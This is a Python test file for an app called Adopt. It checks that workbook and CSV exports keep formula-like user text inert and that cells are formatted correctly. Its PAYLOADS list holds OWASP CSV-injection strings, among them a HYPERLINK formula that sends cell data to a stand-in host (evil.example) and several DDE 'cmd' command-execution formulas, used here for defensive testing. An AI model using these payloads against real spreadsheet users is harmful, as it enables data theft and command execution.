"""No text typed into Adopt comes out of an export as a live formula."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from adopt.core.spreadsheets import DATE_FORMAT, MONEY_FORMAT, SafeCsvWriter, add_sheet, new_workbook, workbook_bytes

# OWASP's CSV injection payloads, and the two the probe found in real exports.
PAYLOADS = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_keeps_formula_like_text_as_text(payload):
    book = Workbook()
    add_sheet(book, "Rows", ["Name", "Amount"], [[payload, Decimal("12.50")]], money=[1], first=True)
    content = workbook_bytes(book)
    assert formula_cells(content) == []
    cell = load_workbook(io.BytesIO(content))["Rows"]["A2"]
    assert cell.value.strip() == payload.strip()  # the text itself is kept, as text
    assert load_workbook(io.BytesIO(content))["Rows"]["B2"].value == 12.5


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_prefixes_formula_like_text_with_an_apostrophe(payload):
    stream = io.StringIO()
    SafeCsvWriter(stream).writerow([payload, "Ribble Plastics Ltd", 3])
    first = stream.getvalue().lstrip('"')
    assert first.startswith("'")
    assert "Ribble Plastics Ltd,3" in stream.getvalue()


def test_a_sheet_s_header_is_bold_and_its_money_and_dates_are_formatted():
    book = new_workbook()
    add_sheet(book, "Rows", ["Amount", "On"], [[Decimal("12.50"), datetime.date(2026, 12, 2)]], [0], [1], first=True)
    add_sheet(book, "More", ["Amount"], [[Decimal("1")]], [0])
    loaded = load_workbook(io.BytesIO(workbook_bytes(book)))
    assert loaded["Rows"]["A1"].font.b
    assert loaded["More"]["A1"].font.b
    assert not loaded["Rows"]["A2"].font.b
    assert loaded["Rows"]["A2"].number_format == MONEY_FORMAT
    assert loaded["Rows"]["B2"].number_format == DATE_FORMAT
